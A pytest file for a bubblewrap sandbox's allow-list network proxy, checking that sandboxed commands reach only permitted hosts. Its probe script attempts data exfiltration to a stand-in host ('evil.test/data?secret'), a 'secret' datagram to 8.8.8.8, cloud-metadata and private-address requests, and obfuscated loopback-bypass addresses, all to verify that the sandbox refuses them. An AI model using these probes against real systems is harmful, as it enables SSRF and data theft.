"""The network of a sandbox: real commands in bubblewrap, with the proxy of the gateway."""

import asyncio
import json
import os
import shlex
import signal
import socket
import sys
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from homarus.config.schema import Config
from homarus.core.errors import SandboxError
from homarus.core.message import Text
from homarus.net.allow_proxy import ProxyAccess
from homarus.net.guard import NetworkPolicy
from homarus.policy.tool_call import TaintSource
from homarus.tools.exec.result_text import format_result
from homarus.tools.exec.run import CommandResult
from homarus.tools.sandbox import network
from homarus.tools.sandbox.base import Mount, SandboxLaunch, SandboxSpec
from homarus.tools.sandbox.bubblewrap import create
from tests.unit.net.proxy_harness import Origin
from tests.unit.net.test_http_client import make_certificate, tls
from tests.unit.tools.network_builders import (
    make_launch,
    make_spec,
    require_bwrap,
    run_launch,
    run_text,
)
from tests.waiting import until

pytestmark = pytest.mark.skipif(sys.platform != "linux", reason="sandboxes need Linux")

LOCAL = NetworkPolicy(allowed_hosts=frozenset({"127.0.0.1"}))
LOCALHOST = NetworkPolicy(allowed_hosts=frozenset({"localhost"}))
# Tried inside, with the standard library; each prints a line with its name and what came of it.
PROBES = """
import json, os, socket, ssl, urllib.error, urllib.request
HTTP, HTTPS, CERTIFICATE = %(http)d, %(https)d, %(certificate)r
PRIVATE = %(private)r
def report(name, work):
    try: found = work()
    except urllib.error.HTTPError as exc: found = [exc.code, exc.read().decode()]
    except Exception as exc: found = type(exc).__name__ + ": " + str(exc)
    print(json.dumps([name, found]))
def fetch(url):
    context = ssl.create_default_context(cadata=CERTIFICATE) if "https" in url else None
    return urllib.request.urlopen(url, timeout=20, context=context).read().decode()
def send_datagram():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        return one.sendto(b"secret", ("8.8.8.8", 53))
def connect(*place):
    with socket.create_connection(place, timeout=5): return "connected"
report("environment", lambda: dict(os.environ))
os.environ["no_proxy"] = os.environ["NO_PROXY"] = ""  # the servers of the test are on localhost
report("http", lambda: fetch(f"http://localhost:{HTTP}/"))
report("https", lambda: fetch(f"https://localhost:{HTTPS}/"))
report("other http", lambda: fetch("http://evil.test/data?secret"))
report("other https", lambda: fetch("https://evil.test/"))
for place in PRIVATE:
    report(place, lambda: fetch(f"http://{place}/"))
report("direct", lambda: connect("127.0.0.1", HTTP))
report("internet", lambda: connect("93.184.216.34", 443))
report("datagram", send_datagram)
report("lookup", lambda: socket.getaddrinfo("example.org", 443))
report("descriptors", lambda: sorted(map(int, os.listdir("/proc/self/fd"))))
"""


@asynccontextmanager
async def serve(origin: Origin, **options: Any) -> AsyncIterator[int]:
    server = await asyncio.start_server(origin.serve, "127.0.0.1", 0, **options)
    async with server:
        yield server.sockets[0].getsockname()[1]


def open_descriptors() -> int:
    return len(list(Path("/proc/self/fd").iterdir()))


async def test_sandboxed_command_reaches_allowed_hosts_only(tmp_path: Path) -> None:
    require_bwrap()
    certificate = make_certificate(tmp_path).read_text()
    before = open_descriptors()
    one, two = Origin(), Origin()
    async with serve(one) as http, serve(two, ssl=tls(tmp_path)) as https:
        private = [
            "169.254.169.254", "10.0.0.1", "192.168.1.1", f"127.0.0.1:{http}", f"[::1]:{http}",
            f"2130706433:{http}", f"0x7f000001:{http}", f"[::ffff:127.0.0.1]:{http}",
            "[64:ff9b::a9fe:a9fe]", "metadata.google.internal",
        ]  # fmt: skip
        values = {"http": http, "https": https, "certificate": certificate, "private": private}
        script = PROBES % values
        python = network.wrap_command((), 0)[0]
        text = f"grep SigIgn /proc/self/status; exec {python} -I -S -c {shlex.quote(script)}"
        hosts = (f"localhost:{http}", f"localhost:{https}", *private)
        result = await run_text(tmp_path, text, *hosts, policy=LOCALHOST)
    first, *lines = result.output.splitlines()
    assert result.exit_code == 0, result.output
    found = dict(map(json.loads, lines))
    ignored = int(first.split()[1], 16)
    assert not any(ignored >> number - 1 & 1 for number in (signal.SIGPIPE, signal.SIGXFSZ))
    assert (found["http"], found["https"]) == ("hello", "hello")
    assert found["other http"][0] == 403
    assert "evil.test:80 is not in sandbox.network.allow" in found["other http"][1]
    assert "403 evil.test:443 is not in sandbox.network.allow" in found["other https"]
    assert {found[place][0] for place in private} == {403}  # though each of them is listed
    assert (one.connections, two.connections) == (1, 1)
    for name in ("direct", "internet", "datagram", "lookup"):
        assert "rror: " in found[name], name
    proxy = {name: value for name, value in found["environment"].items() if "proxy" in name.lower()}
    assert proxy["HTTPS_PROXY"] == proxy["all_proxy"] == "http://127.0.0.1:3128"
    assert proxy["no_proxy"] == "localhost,127.0.0.1,::1"
    assert [fd for fd in found["descriptors"] if fd > 3] == []
    refused = {each.place for each in result.accesses if each.refusal}
    assert {"evil.test:80", "evil.test:443", "169.254.169.254:80"} <= refused
    # No program for the network is named in the command, and its output is theirs all the same.
    origin = f"localhost:{http}, localhost:{https}"
    assert format_result(result, "/").untrusted == TaintSource("web", origin)
    await until(lambda: open_descriptors() == before, 0.01)


async def test_listed_loopback_host_is_refused_without_the_policy(tmp_path: Path) -> None:
    require_bwrap()
    if not Path("/usr/bin/curl").exists():
        pytest.skip("curl is not installed")
    async with serve(Origin()) as port:
        url = f"http://nas.test:{port}/"
        text = f"curl -sS {url}; NO_PROXY= no_proxy= curl -sS http://127.0.0.1:{port}/"
        refused = await run_text(tmp_path, text, f"127.0.0.1:{port}")
        allowed = await run_text(tmp_path, text, f"127.0.0.1:{port}", policy=LOCAL)
    assert f"nas.test:{port} is not in sandbox.network.allow" in refused.output
    assert "is not on the public internet (loopback)" in refused.output
    assert allowed.output.endswith("hello")


async def test_sandbox_without_allowed_hosts_has_no_proxy(tmp_path: Path) -> None:
    require_bwrap()
    launch = await make_launch(tmp_path, make_spec(tmp_path), "env; cat /proc/net/tcp; ls -a /")
    assert launch.proxy == -1
    result = await run_launch(tmp_path, launch)
    assert result.exit_code == 0
    assert "proxy" not in result.output.lower()
    assert "0C38" not in result.output  # the port
    assert ".homarus" not in result.output
    assert network.STAGE_TARGET not in [each.target for each in _mounts(make_spec(tmp_path))]
    assert network.STAGE_TARGET in [each.target for each in _mounts(make_spec(tmp_path, "a.test"))]


def _mounts(spec: SandboxSpec) -> tuple[Mount, ...]:
    return create(spec.tmp).mounts(spec)


async def test_sandbox_that_opens_no_port_runs_without_proxy(tmp_path: Path) -> None:
    require_bwrap()
    before = open_descriptors()
    ours, theirs = network.open_proxy_pair()
    plain = await make_launch(tmp_path, make_spec(tmp_path), "echo done")
    launch = replace(plain, fds=(*plain.fds, theirs), proxy=ours, allowed_hosts=("a.test",))
    result = await run_launch(tmp_path, launch)
    assert (result.output, result.accesses) == ("done\n", ())
    os.close(ours)
    os.close(theirs)
    await until(lambda: open_descriptors() == before, 0.01)


async def test_equal_commands_with_network_have_equal_digests(tmp_path: Path) -> None:
    require_bwrap()
    specs = [make_spec(tmp_path, "a.test"), make_spec(tmp_path, "a.test"), make_spec(tmp_path)]
    launches = [await make_launch(tmp_path, spec, "true") for spec in specs]
    for launch in launches:
        launch.close()
    first, second, other = (launch.identity for launch in launches)
    assert first == second != other


async def test_command_that_is_killed_ends_its_proxy(tmp_path: Path) -> None:
    require_bwrap()
    before = open_descriptors()
    result = await run_text(tmp_path, "kill -9 $$", "a.test")
    assert result.exit_code == 137
    await until(lambda: open_descriptors() == before, 0.01)


# What a sandbox sends


@asynccontextmanager
async def receive(*descriptors: int) -> AsyncIterator[network.SandboxNetwork]:
    """Yield a network to which these descriptors were sent."""
    ours, theirs = network.open_proxy_pair()
    with socket.socket(fileno=ours), socket.socket(fileno=theirs) as sender:
        if descriptors:
            socket.send_fds(sender, [b"x"], list(descriptors))
        yield network.SandboxNetwork(SandboxLaunch(argv=(), env={}, proxy=ours))


async def test_port_of_this_machine_is_not_served_as_a_proxy() -> None:
    before = open_descriptors()
    with socket.create_server(("127.0.0.1", 0)) as listener:
        async with receive(listener.fileno()) as served:
            await served.serve()
    await until(lambda: open_descriptors() == before, 0.01)


@pytest.mark.parametrize("kind", ["file", "datagram", "unix", "idle", "two"])
async def test_descriptor_that_is_no_listening_socket_is_closed(kind: str, tmp_path: Path) -> None:
    before = open_descriptors()
    with (
        (tmp_path / "file").open("w") as file,
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as datagram,
        socket.socket(socket.AF_UNIX) as unix,
        socket.socket() as idle,
    ):
        numbers = {
            "file": [file.fileno()],
            "datagram": [datagram.fileno()],
            "unix": [unix.fileno()],
            "idle": [idle.fileno()],
            "two": [idle.fileno(), file.fileno()],
        }
        async with receive(*numbers[kind]) as served:
            await served.serve()
    await until(lambda: open_descriptors() == before, 0.01)


async def test_network_ends_when_the_sandbox_closes_its_end() -> None:
    ours, theirs = network.open_proxy_pair()
    served = network.SandboxNetwork(SandboxLaunch(argv=(), env={}, proxy=ours))
    os.close(theirs)
    await served.serve()
    os.close(ours)


# The interpreter inside


def test_interpreter_mounts_are_read_only_and_no_prefix() -> None:
    mounts = network.interpreter_mounts()
    assert not any(each.is_writable for each in mounts)
    targets = [each.target for each in mounts]
    assert network.STAGE_TARGET in targets
    assert sys.base_prefix not in targets
    assert not any(target.startswith(("/usr/", "/lib/")) for target in targets)
    assert not any(target.startswith(str(Path.home() / ".openclaw")) for target in targets)


def test_interpreter_that_needs_its_environment_is_reported(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    network._interpreter_files.cache_clear()
    monkeypatch.setattr(network, "_executable", lambda: "/bin/false")
    with pytest.raises(SandboxError, match="empty environment") as caught:
        network.interpreter_mounts()
    assert "sandbox.network.allow" in caught.value.fix


# Settings and results


def test_allowed_hosts_of_the_config_are_normalized() -> None:
    allow = ["Example.org.", "*.pypi.org:8443", "bücher.example"]
    config = Config.model_validate(
        {"agents": {"defaults": {"sandbox": {"network": {"allow": allow}}}}}
    )
    found = config.agents.defaults.sandbox.network.allow
    assert found == ("example.org", "*.pypi.org:8443", "xn--bcher-kva.example")


@pytest.mark.parametrize("entry", ["https://example.org", "*", "example.org:x", "a b"])
def test_allowed_host_of_the_config_that_is_none_is_refused(entry: str) -> None:
    with pytest.raises(ValueError, match="is not a host name or an address"):
        Config.model_validate(
            {"agents": {"defaults": {"sandbox": {"network": {"allow": [entry]}}}}}
        )


def test_result_names_the_refused_hosts_and_their_setting() -> None:
    reason = "is not in sandbox.network.allow"
    refused = tuple(ProxyAccess(f"h{number}.test:443", reason) for number in range(7))
    accesses = (ProxyAccess("a.test:443"), *refused)
    output = format_result(CommandResult(0, False, "out\n", 1, accesses=accesses), "/")
    (block,) = output.content
    assert isinstance(block, Text)
    text = block.text
    assert text.startswith("out\n\n[Refused by the sandbox's proxy: h0.test:443 is not in ")
    assert text.endswith("; 2 more.]")
    assert output.details
    assert str(output.details["network"]).startswith("allowed a.test:443; refused h0.test:443; ")
    assert output.untrusted == TaintSource("web", "a.test:443")


def test_result_of_refused_hosts_alone_is_not_untrusted() -> None:
    accesses = (ProxyAccess("h.test:443", "is not in sandbox.network.allow"),)
    assert format_result(CommandResult(0, False, "", 1, accesses=accesses), "/").untrusted is None


def test_result_without_network_has_no_line_about_it() -> None:
    output = format_result(CommandResult(0, False, "out\n", 1), "/")
    assert output.content == (Text("out"),)
    assert "network" not in (output.details or {})
    assert output.untrusted is None
